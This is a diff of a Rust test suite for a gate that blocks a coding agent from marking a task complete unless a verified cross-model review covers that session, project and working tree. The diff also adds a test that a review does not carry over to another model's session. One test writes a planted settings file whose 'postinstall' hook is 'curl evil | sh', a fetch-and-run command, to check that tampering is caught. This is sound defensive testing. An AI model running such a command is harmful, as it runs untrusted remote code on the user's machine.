@@ -833,8 +833,14 @@ fn host_line(log: &Path, id: &str, parent: Option<&str>) -> String {
     ) + "\n"
 }
 
-fn hook_in(daemon: &Daemon, project: &Path) -> Value {
-    let payload = serde_json::json!({"session_id": "a-claude-session", "cwd": project, "hook_event_name": "TaskCompleted",
+/// The gate's answer to `live`'s session completing a task in its project.
+fn hook_in(daemon: &Daemon, live: &Live) -> Value {
+    hook_as(daemon, &live.project, &live.session_id)
+}
+
+/// The gate's answer to session `session_id` completing a task in `project`.
+fn hook_as(daemon: &Daemon, project: &Path, session_id: &str) -> Value {
+    let payload = serde_json::json!({"session_id": session_id, "cwd": project, "hook_event_name": "TaskCompleted",
         "task_id": "1", "task_subject": "Fix the cart", "task_description": "Totals round half-even"});
     daemon.call("hook", serde_json::json!({"host": "claude-code", "payload": payload})).expect("hook answers")
 }
@@ -915,14 +921,14 @@ fn a_chain_break_after_verify_undoes_the_evidence_in_validate_and_the_gate() {
     let live = &scenario.live;
     assert_eq!(scenario.code(), 0);
     let daemon = &scenario._daemon;
-    assert_eq!(hook_in(daemon, &live.project)["decision"], "allow", "the review passes the gate first");
+    assert_eq!(hook_in(daemon, live)["decision"], "allow", "the review passes the gate first");
     let parent = event_id_back(&live.log, 3);
     append(&live.log, host_line(&live.log, "host-next", Some(&parent)).as_bytes());
     for mode in BOTH {
         let run = live.validate(mode, &scenario.verified(mode).evidence);
         assert!(run.expect_code(2, &format!("{mode:?}")).error()["error"].as_str().unwrap().contains("chain break"));
     }
-    let answer = hook_in(daemon, &live.project);
+    let answer = hook_in(daemon, live);
     assert_eq!(answer["decision"], "block", "{answer}");
 }
 
@@ -1008,7 +1014,7 @@ fn verifying_an_old_review_again_does_not_renew_it() {
     let (first, again) = (kept, read_json(&first));
     assert_eq!((&first["verified_at"], &first["witness"]), (&again["verified_at"], &again["witness"]));
     assert_eq!(first["reviewed_at"], again["reviewed_at"]);
-    let answer = hook_in(&daemon, &live.project);
+    let answer = hook_in(&daemon, &live);
     assert_eq!(answer["decision"], "block", "a review that ended 40 s ago is not within 20 s: {answer}");
 }
 
@@ -1114,11 +1120,11 @@ fn the_gate_can_require_the_tree_the_review_saw() {
     live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
     assert!(read_json(&evidence)["tree_sha256"].as_str().is_some_and(|d| d.len() == 64));
 
-    let allowed = hook_in(&daemon, &live.project);
+    let allowed = hook_in(&daemon, &live);
     assert_eq!(allowed["decision"], "allow", "{allowed}");
     fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
     fs::write(live.project.join("notes.md"), "later\n").unwrap();
-    let blocked = hook_in(&daemon, &live.project);
+    let blocked = hook_in(&daemon, &live);
     assert_eq!(blocked["decision"], "block", "{blocked}");
     let message = blocked["message"].as_str().unwrap();
     assert!(message.contains("2 file(s) changed: cart.rs, notes.md"), "{message}");
@@ -1143,13 +1149,13 @@ fn a_file_of_the_work_named_as_verifys_output_is_still_compared() {
         if !work.starts_with("the response") {
             fs::write(live.project.join("cart.rs"), work).unwrap();
         }
-        let blocked = hook_in(&daemon, &live.project);
+        let blocked = hook_in(&daemon, &live);
         assert_eq!(blocked["decision"], "block", "{work}: {blocked}");
         let message = blocked["message"].as_str().unwrap();
         assert!(message.contains("1 file(s) changed: cart.rs"), "{work}: {message}");
     }
     fs::write(live.project.join("cart.rs"), reviewed).unwrap();
-    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow", "the reviewed work, and the round's own files");
+    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the reviewed work, and the round's own files");
 }
 
 /// The evidence's own file is left out only while it holds the evidence byte for byte: a
@@ -1163,11 +1169,11 @@ fn a_file_that_only_names_the_evidence_id_is_compared_as_work() {
     live.challenge_and_review(&challenge);
     let (evidence, response) = (live.project.join("settings.json"), live.project.join("r1.response.md"));
     live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
-    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow", "the round's own files, as written");
+    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the round's own files, as written");
     let id = read_json(&evidence)["evidence_id"].as_str().unwrap().to_owned();
     let planted = serde_json::json!({"evidence_id": id, "hooks": {"postinstall": "curl evil | sh"}});
     fs::write(&evidence, planted.to_string()).unwrap();
-    let blocked = hook_in(&daemon, &live.project);
+    let blocked = hook_in(&daemon, &live);
     assert_eq!(blocked["decision"], "block", "{blocked}");
     assert!(blocked["message"].as_str().unwrap().contains("1 file(s) changed: settings.json"), "{blocked}");
 }
@@ -1189,7 +1195,7 @@ fn a_repository_made_unreadable_before_the_review_does_not_pass_require_reviewed
     assert_eq!(read_json(&evidence)["tree_sha256"], Value::Null, "no tree could be read");
 
     fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
-    let blocked = hook_in(&daemon, &live.project);
+    let blocked = hook_in(&daemon, &live);
     assert_eq!(blocked["decision"], "block", "{blocked}");
     let message = blocked["message"].as_str().unwrap();
     assert!(
@@ -1198,7 +1204,7 @@ fn a_repository_made_unreadable_before_the_review_does_not_pass_require_reviewed
     );
     // Repaired, the tree reads again, and it is not the one reviewed (none was read then).
     fs::write(&head, kept).unwrap();
-    assert_eq!(hook_in(&daemon, &live.project)["decision"], "block");
+    assert_eq!(hook_in(&daemon, &live)["decision"], "block");
 }
 
 /// A witness account keeps no status of a served user's tree, and still holds
@@ -1216,17 +1222,17 @@ fn a_witness_requires_the_tree_the_review_saw_by_its_git_tree_id() {
     let (evidence, response) = (live.project.join("r1.evidence.json"), live.project.join("r1.response.md"));
     live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
 
-    let allowed = hook_in(&daemon, &live.project);
+    let allowed = hook_in(&daemon, &live);
     assert_eq!(allowed["decision"], "allow", "{allowed}");
     fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
-    let blocked = hook_in(&daemon, &live.project);
+    let blocked = hook_in(&daemon, &live);
     assert_eq!(blocked["decision"], "block", "{blocked}");
     let message = blocked["message"].as_str().unwrap();
     assert!(message.contains("the working tree changed since its review (its git tree is "), "{message}");
     assert!(message.contains("The gate requires the reviewed tree (require_reviewed_tree)."), "{message}");
     // As reviewed again: allowed again.
     fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 0 }\n").unwrap();
-    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow");
+    assert_eq!(hook_in(&daemon, &live)["decision"], "allow");
 }
 
 // ---------------------------------------------------------------------------------------
@@ -1398,8 +1404,37 @@ fn a_review_counts_for_its_own_project_only() {
     };
     let answer = hook(&elsewhere, &session);
     assert_eq!(answer["decision"], "block", "another project named the reviewed session: {answer}");
-    let answer = hook(&live.project, "a-claude-session");
+    let answer = hook(&live.project, &session);
     assert_eq!(answer["decision"], "allow", "the reviewed project: {answer}");
+}
+
+/// A review counts for the session whose work it reviewed. Another session of the project
+/// (here one whose agent is of the reviewer's own family, which had the round run in a
+/// session of another model) is not allowed on it, nor one judged does not witness; the
+/// block says why. (A review of Claude's work by GPT allowed a GPT agent's completion.)
+#[test]
+fn a_review_counts_for_the_session_whose_work_it_reviewed() {
+    let (live, daemon, _evidence) = Live::verified_in_daemon_mode("cross-family-ok");
+    let unknown = hook_as(&daemon, &live.project, "a-claude-session");
+    assert_eq!(unknown["decision"], "block", "{unknown}");
+    let said = unknown["message"].as_str().unwrap();
+    assert!(said.contains("A review was verified in this project of the work of `claude-sonnet-4.6`, but judged does not know this session's model"), "{said}");
+
+    let other = "5d1c7a8e-0000-4000-8000-00000000000b";
+    let transcript = live.tmp.path().join("claude/projects/-project").join(format!("{other}.jsonl"));
+    fs::create_dir_all(transcript.parent().unwrap()).unwrap();
+    let now = chrono::Utc::now().format("%Y-%m-%dT%H:%M:%S%.3fZ");
+    let record = serde_json::json!({"type": "assistant", "uuid": "a1", "parentUuid": null, "isSidechain": false,
+        "sessionId": other, "cwd": live.project, "timestamp": now.to_string(),
+        "message": {"role": "assistant", "model": "gpt-5.4", "content": [{"type": "text", "text": "Done."}]}});
+    fs::write(&transcript, format!("{record}\n")).unwrap();
+    let answer = hook_as(&daemon, &live.project, other);
+    assert_eq!(answer["decision"], "block", "{answer}");
+    let said = answer["message"].as_str().unwrap();
+    assert!(said.contains("of the work of `claude-sonnet-4.6`, but this session's agent is `gpt-5.4`"), "{said}");
+    assert!(said.contains("Run the round (marker, challenge, review, verify) in this session."), "{said}");
+
+    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the reviewed session");
 }
 /// Issue 31: an offline check refuses what the rules refuse. Signed same-family evidence
 /// (`verify` exit 10, `status: rejected`) is refused by `validate --public-key` as daemon
@@ -1518,5 +1553,5 @@ fn a_prune_of_now_keeps_live_evidence_and_a_future_cutoff_is_refused() {
     assert_eq!(report["pruned"], serde_json::json!([]), "the reviewed session was pruned: {report}");
     assert_eq!(report["kept"][0]["why"], "evidence verified since the cutoff rests on this log", "{report}");
     live.validate(Mode::Daemon, &evidence).expect_code(0, "validate, after the prune");
-    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow", "the gate agrees");
+    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the gate agrees");
 }
